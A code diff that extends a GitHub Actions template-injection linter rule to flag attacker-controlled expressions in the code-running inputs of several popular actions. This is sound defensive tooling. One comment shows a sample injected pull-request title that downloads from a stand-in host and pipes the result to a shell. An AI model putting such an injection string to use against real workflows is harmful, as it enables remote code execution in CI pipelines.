@@ -2,8 +2,9 @@
 //
 // GitHub substitutes `${{ … }}` into the text before the shell (or github-script's JavaScript)
 // sees it, so a pull-request title such as `"; curl evil | sh; "` becomes code.
-// - Sinks: a step's `run:` and the `script` input of `actions/github-script`, in workflows and
-//   composite actions. Inputs of other actions are data, not code, and are not reported.
+// - Sinks: a step's `run:`, the `script` input of `actions/github-script`, and the few inputs of
+//   other popular actions that are run as code (kCodeInputs), in workflows and composite
+//   actions. Inputs of other actions are data, not code, and are not reported.
 // - Sources: the attacker-controlled contexts of rules/gha/common.hpp (issue, pull request,
 //   comment, review and discussion text, fork branch names, commit messages and authors, …),
 //   read through the parsed expression, so `github.event['issue'].title`,
@@ -55,13 +56,32 @@ void check_sink(const WorkflowDoc& doc, const StepRef& ref, const mg::Value& sin
   }
 }
 
+// Action inputs that the action runs as code: a script, a shell command line or a program.
+// The list follows the injection sinks zizmor takes from CodeQL's models and tests
+// (`actions/github-script` `script`, `mikefarah/yq` `cmd`, `addnab/docker-run-action` `run`), plus
+// the Azure CLI and PowerShell actions' `inlineScript`. Any other input is data.
+struct CodeInput {
+  std::string_view action;  // owner/repo
+  std::string_view input;
+  std::string_view label;  // how the message names the sink
+};
+constexpr CodeInput kCodeInputs[] = {
+    {"actions/github-script", "script", "github-script script"},
+    {"mikefarah/yq", "cmd", "yq cmd input"},
+    {"addnab/docker-run-action", "run", "docker-run-action run input"},
+    {"azure/cli", "inlineScript", "azure/cli inlineScript"},
+    {"azure/powershell", "inlineScript", "azure/powershell inlineScript"},
+};
+
 void check(const WorkflowDoc& doc, Reporter& out) {
   for (const StepRef& ref : all_steps(doc)) {
     const mg::Step& step = *ref.step;
     if (step.run) check_sink(doc, ref, *step.run, "run script", out);
-    if (step.uses && step.uses->is_action("actions/github-script"))
-      if (const mg::Entry* script = step.with.find("script"))
-        check_sink(doc, ref, script->value, "github-script script", out);
+    if (!step.uses) continue;
+    for (const CodeInput& sink : kCodeInputs)
+      if (step.uses->is_action(sink.action))
+        if (const mg::Entry* input = step.with.find_ignore_case(sink.input))
+          check_sink(doc, ref, input->value, sink.label, out);
   }
 }
 
@@ -73,8 +93,11 @@ extern const Rule template_injection{
              .severity = Severity::error,
              .format = Format::actions,
              .summary = "Attacker-controlled context expanded into a run script",
-             .what = "Reports a `${{ … }}` expression in a `run:` script, or in the `script` "
-                     "input of `actions/github-script`, that expands text an outside contributor "
+             .what = "Reports a `${{ … }}` expression in a `run:` script, in the `script` "
+                     "input of `actions/github-script`, or in an input that another popular "
+                     "action runs as code (`mikefarah/yq` `cmd`, `addnab/docker-run-action` "
+                     "`run`, `azure/cli` and `azure/powershell` `inlineScript`), that expands "
+                     "text an outside contributor "
                      "chooses: issue, pull-request, comment, review and discussion titles and "
                      "bodies, fork branch names (`github.head_ref`, "
                      "`github.event.pull_request.head.ref`), commit messages and author names, "
